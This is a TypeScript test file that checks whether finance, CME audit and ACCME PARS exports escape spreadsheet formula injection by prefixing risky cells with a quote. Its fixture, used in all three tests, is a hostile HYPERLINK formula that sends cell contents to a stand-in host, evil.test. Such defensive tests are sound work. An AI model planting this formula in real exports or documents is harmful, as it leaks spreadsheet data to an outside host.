import { parse } from 'csv-parse/sync';
import { auditCsv } from '../../apps/api/cme/cme-audit-format.js';
import type { AuditLine, AuditReport } from '../../apps/api/cme/cme-audit-report.js';
import { PARS_COLUMNS, type ParsColumn, parsText } from '../../apps/api/cme/cme-audit-pars.js';
import { financeCsv } from '../../apps/api/finance/finance-csv.js';
import type { LedgerRow } from '../../libs/read-models/finance-ledger.js';

/**
 * Exports safe to open: a physician's own name, an email or a product name that a spreadsheet would
 * evaluate (`=`, `+`, `-`, `@`) reaches no export as a formula. Each file is read back cell by cell.
 */
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")';

const ledgerRow = (over: Partial<LedgerRow>): LedgerRow => ({
  eventId: 'e1',
  occurredAt: '2026-05-01T10:00:00.000Z',
  onum: '1001',
  lineNo: 1,
  productId: 130,
  productName: 'Complete',
  type: 'subscription',
  qty: 1,
  unitPrice: 157500,
  discount: 0,
  tax: 0,
  shipping: 0,
  total: 157500,
  reference: 'ch_1',
  ...over,
});

describe('exports safe to open in a spreadsheet', () => {
  it('finance CSV: a hostile product name and reference start with a quote; a refund stays a negative number', () => {
    const csv = financeCsv([
      ledgerRow({ productName: FORMULA, reference: '@SUM(A1:A9)' }),
      ledgerRow({ lineNo: 2, productId: null, productName: '-refund', type: 'refund', unitPrice: -1230, total: -1230 }),
    ]);
    const [header, paid, refund] = parse(csv) as string[][];
    const at = (name: string) => header!.indexOf(name);
    expect(paid![at('product_name')]).toBe(`'${FORMULA}`);
    expect(paid![at('reference')]).toBe("'@SUM(A1:A9)");
    expect(refund![at('product_name')]).toBe("'-refund");
    expect(refund![at('total')]).toBe('-12.30');
    expect(refund![at('unit_price')]).toBe('-12.30');
  });

  it('CME audit CSV: a hostile email and product name start with a quote; credits stay numbers', () => {
    const line: AuditLine = {
      customerId: 'c1',
      email: '+1@example.test',
      stream: 'cme-c1-2026',
      revision: 1,
      eventId: 'e1',
      eventType: 'CmeTestSubmitted',
      submittedAt: '2026-05-01T10:00:00.000Z',
      recordedAt: '2026-05-01T10:00:00.000Z',
      recordId: 'r1',
      testType: 'streaming',
      productId: 306,
      productName: FORMULA,
      answers: [1, 2, 3, 4],
      correct: 4,
      creditsEarned: 0.5,
      creditsAwarded: 0.5,
      creditsCut: 0,
      capApplied: false,
      safetyCredits: 0,
      ruleVersion: 1,
      attempt: 1,
      counts: true,
      evidence: [],
    };
    const report: AuditReport = { year: 2026, lines: [line], attempts: [], totals: [], heads: [], findings: [] };
    const [header, row] = parse(auditCsv(report)) as string[][];
    expect(row![header!.indexOf('email')]).toBe("'+1@example.test");
    expect(row![header!.indexOf('product_name')]).toBe(`'${FORMULA}`);
    expect(row![header!.indexOf('credits_awarded')]).toBe('0.5');
  });

  it('PARS: a physician called =HYPERLINK(...) is written as text; the columns ACCME reads stay as they were', () => {
    const row = Object.fromEntries(PARS_COLUMNS.map((c) => [c, ''])) as Record<ParsColumn, string>;
    Object.assign(row, {
      'Record Action': 'Add',
      'ACCME Activity ID': '12345',
      'Completion Date': '05/01/2026',
      'First Name': FORMULA,
      'Last Name': '-Smith',
      'Date of Birth': '01/31',
      'Licensing State': 'CA',
      'Licensing ID or NPI': 'A12345',
      'Number of CME Credits': '0.5',
    });
    const [, line] = parsText({ year: 2026, rows: [row], problems: [] }).split('\r\n');
    const cells = line!.split('\t');
    const at = (c: ParsColumn) => cells[PARS_COLUMNS.indexOf(c)];
    expect(at('First Name')).toBe(`'${FORMULA}`);
    expect(at('Last Name')).toBe("'-Smith");
    expect([at('Record Action'), at('ACCME Activity ID'), at('Completion Date'), at('Number of CME Credits')]).toEqual([
      'Add',
      '12345',
      '05/01/2026',
      '0.5',
    ]);
  });
});
